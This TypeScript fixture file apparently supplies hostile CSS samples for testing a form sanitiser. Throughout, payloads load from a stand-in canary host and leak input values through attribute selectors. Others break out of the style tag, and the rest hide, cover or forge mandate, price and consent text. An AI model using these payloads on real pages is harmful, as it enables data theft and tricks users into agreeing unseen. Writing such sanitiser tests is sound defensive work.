const canary = 'https://canary.example';

const hidden = (declarations: string) =>
  `.mandate,.mandate *,.privacy,.privacy *,.price-sums *,.aside,.error,.foot .primary{${declarations}}`;

/** Additional CSS that tries to load, read, hide, cover, move or forge something. */
export const hostileCss: readonly (readonly [name: string, css: string])[] = [
  // loads
  ['import', `@import url(${canary}/a.css);@import "${canary}/b.css" layer(x);`],
  ['font-face', `@font-face{font-family:x;src:url(${canary}/f.woff2)}*{font-family:x}`],
  ['url background', `*{background:url(${canary}/a)}`],
  ['escaped url', `*{background:\\75rl(${canary}/a);background-image:u\\72 l("${canary}/b")}`],
  [
    'image-set',
    `*{background-image:image-set("${canary}/a" 1x);background-image:-webkit-image-set(url(${canary}/b) 1x)}`,
  ],
  ['cross-fade', `*{background-image:cross-fade(url(${canary}/a),red 50%)}`],
  ['image and src', `*{background-image:image("${canary}/a");background-image:src("${canary}/b")}`],
  ['element and paint', '*{background:-moz-element(#a);background-image:paint(x)}'],
  [
    'url in a variable',
    `:root{--accent:url(${canary}/a);--radius:url(${canary}/b)}*{background:var(--accent)}`,
  ],
  [
    'url in other places',
    `*{cursor:url(${canary}/a),auto;list-style-image:url(${canary}/b);content:url(${canary}/c);border-image:url(${canary}/d) 1;mask:url(${canary}/e);filter:url(${canary}/f);shape-outside:url(${canary}/g);clip-path:url(${canary}/h)}`,
  ],
  ['comment within url', `*{background:u/**/rl(${canary}/a);background/**/:/**/url(${canary}/b)}`],
  ['namespace and charset', `@charset "utf-8";@namespace x url(${canary}/n);x|*{color:red}`],
  ['closing the element', `</style><img src=${canary}/a><style>`],
  ['closing by escape', `*{content:"\\3c /style\\3e <script src=${canary}/a></script>"}`],
  // reads
  [
    'attribute values',
    Array.from('abcdefgh', letter => `input[value^="${letter}"]{background:url(${canary}/${letter})}`).join(
      '',
    ),
  ],
  ['value equals', `input[value="DE"]{background:red;width:0}[value]{display:none}`],
  ['has', `body:has(input[value]) .mandate,.form-root:has(:checked) .mandate{display:none}`],
  [
    'valid and autofill',
    'input:valid,input:autofill,input:in-range{background:#fff;color:#fff;font-size:64px}',
  ],
  ['scrollbar trick', `*::-webkit-scrollbar{background:url(${canary}/s)}::first-line{color:#fff}`],
  ['registered property', `@property --accent{syntax:"<color>";inherits:true;initial-value:#fff}`],
  // hides
  ['display', hidden('display:none')],
  ['visibility', hidden('visibility:hidden;visibility:collapse;content-visibility:hidden')],
  ['opacity', hidden('opacity:0;-webkit-opacity:0')],
  ['small letters', hidden('font-size:0;font:0/0 a;font-size:.01px;zoom:.01')],
  [
    'smallest letters allowed',
    `.form-root{font-size:12px}${hidden('font-size:12px;font-size:1em;font-size:50%;line-height:0')}`,
  ],
  ['white on white', hidden('color:#fff;background:#fff')],
  ['ink on ink', hidden('color:#17211f;background-color:#17211f;border-color:#17211f')],
  [
    'transparent letters',
    hidden('color:transparent;color:#0000;color:rgb(0 0 0/0);-webkit-text-fill-color:transparent'),
  ],
  [
    'tokens of one colour',
    ':root{--accent:#fff;--on-accent:#fff;--accent-strong:#fff;--ink:#fff;--surface-base:#fff;--danger:#fff;--muted:#fff}',
  ],
  [
    'tokens on the part',
    hidden('--ink:#fff;--surface-base:#fff;--accent:#fff;--on-accent:#fff;--danger:#fff'),
  ],
  ['tokens black on black', '.foot .primary{--accent:#000;--on-accent:#000;background:#000;color:#000}'],
  [
    'clip',
    hidden(
      'clip-path:inset(100%);clip:rect(0 0 0 0);mask:linear-gradient(#0000,#0000);overflow:hidden;max-height:0;height:0',
    ),
  ],
  [
    'max-height',
    hidden('max-height:0;max-width:0;width:0;height:0;block-size:0;inline-size:0;contain:strict'),
  ],
  [
    'indent',
    hidden(
      'text-indent:-9999px;white-space:nowrap;text-overflow:ellipsis;word-spacing:-9em;letter-spacing:-9em',
    ),
  ],
  ['tight letters', hidden('letter-spacing:-1px;word-spacing:0;line-height:1.1;font-size:12px')],
  ['filter', hidden('filter:opacity(0);backdrop-filter:blur(9px);filter:brightness(9) contrast(0)')],
  ['blend', hidden('mix-blend-mode:difference;isolation:auto;background-blend-mode:screen')],
  ['symbol font', hidden('font-family:Wingdings,Symbol,Webdings;font-feature-settings:"zero"')],
  [
    'hiding animation',
    `@keyframes x{to{opacity:0;visibility:hidden;color:#fff;font-size:0}}${hidden('animation:x 1s 1s forwards')}`,
  ],
  [
    'animation of colours',
    `@keyframes x{from{color:#fff;background:#fff}to{color:#fff;background-color:#fff}}${hidden('animation:x .1s forwards')}`,
  ],
  ['hiding transition', hidden('transition:all 2s 2s;color:#fff;background-color:#fff')],
  [
    'media trick',
    `@media (min-width:0){${hidden('color:#fff;background:#fff')}}@media not print{${hidden('display:none')}}`,
  ],
  ['supports trick', `@supports (display:grid){${hidden('display:none;color:#fff;background:#fff')}}`],
  [
    'layer',
    `@layer a,b;@layer a{${hidden('display:none!important')}}@layer{${hidden('color:#fff!important;background:#fff!important')}}`,
  ],
  [
    'scope and container',
    `@scope (.mandate){:scope,p{display:none}}@container (min-width:0){.mandate{display:none}}@starting-style{.mandate{opacity:0}}`,
  ],
  [
    'nesting',
    `.form-root{& .mandate{display:none}.mandate &{color:#fff}&:is(.mandate){opacity:0}@media all{.privacy{display:none}}}`,
  ],
  ['important', hidden('color:#fff!important;background:#fff!important;display:none!important')],
  [
    'strong selectors',
    `:root.form-root .mandate:not(#a#b#c) :is(p,dd):not(#x#y#z){color:#fff!important;background:#fff}`,
  ],
  ['escaped names', '.m\\61ndate{d\\69splay:none;col\\6fr:#fff;backgr\\6fund:#fff}'],
  // moves
  ['position', hidden('position:fixed;position:absolute;inset:-9999px;left:-9999px;float:left')],
  [
    'transform',
    hidden('transform:scale(0) translate(-999px);rotate:90deg;scale:0;translate:-999px;perspective:1px'),
  ],
  ['negative margins', hidden('margin:-9999px;margin-left:-500px;margin-top:-96px')],
  ['widest margins everywhere', '*{margin:0 96px}'],
  ['widest padding everywhere', '*{padding:0 96px}'],
  [
    'wide to the left',
    'div,section,fieldset,form,main,label,p,span,dl{padding-left:96px;margin-left:96px;border-left:16px solid #fff}',
  ],
  ['huge letters', '*{font-size:64px;letter-spacing:8px;word-spacing:16px;text-transform:uppercase}'],
  ['tall everywhere', '*{min-height:400px;line-height:2.5;gap:96px;row-gap:96px}'],
  [
    'order and grid',
    hidden(
      'order:99;grid-area:1/1;grid-column:99;flex:0 0 0;align-self:end;justify-self:start;direction:rtl;writing-mode:vertical-rl',
    ),
  ],
  [
    'off the end of the row',
    '*{justify-content:flex-end;text-align:right;justify-items:end;align-items:end;max-width:280px}',
  ],
  [
    'scroll tricks',
    'html,body,.form-root{overflow:hidden;height:0;scroll-snap-type:y mandatory;overscroll-behavior:none;scrollbar-width:none}',
  ],
  // covers and forges
  [
    'overlay',
    'body::after,.form-root::before{content:"";position:fixed;inset:0;z-index:2147483647;background:#fff}',
  ],
  [
    'shadows over neighbours',
    '*{box-shadow:0 0 0 48px #fff,0 -24px 0 48px #fff}.foot,.foot *{box-shadow:0 0 48px 48px #fff,inset 0 0 0 48px #fff}',
  ],
  ['inset shadows', `${hidden('box-shadow:inset 0 0 0 48px #fff;border:16px solid #fff')}`],
  ['inset shadows of ink', hidden('box-shadow:inset 0 0 0 48px #17211f,inset 0 0 0 48px #0b5a66')],
  [
    'padded empty boxes',
    'p::before,p::after,dd::after,span::after,button::after,button::before{content:"";padding:96px;background:#fff;border:16px solid #fff;box-shadow:0 0 0 48px #fff}',
  ],
  [
    'forged words',
    hidden('content:"Ich stimme allem zu"') +
      '.mandate p::before,.mandate::before,dd::after,button::after{content:"0,00 € ";content:attr(data-x);content:counter(x) "ja"}',
  ],
  [
    'counters and quotes',
    '*{counter-reset:x 9;quotes:"0 €" "ja"}*::before{content:open-quote;content:counter(x);content:"\\30 "}',
  ],
  [
    'beyond the form',
    'html{display:none}body{background:#f00;position:fixed}body>*,html~*,:root+*,.form-root~*,.form-root+*{display:none;color:#fff}',
  ],
  [
    'gradient ground',
    `${hidden('background:linear-gradient(#17211f,#17211f);background-image:repeating-linear-gradient(#fff,#fff 2px)')}.form-root{background:linear-gradient(#17211f,#17211f)}`,
  ],
];
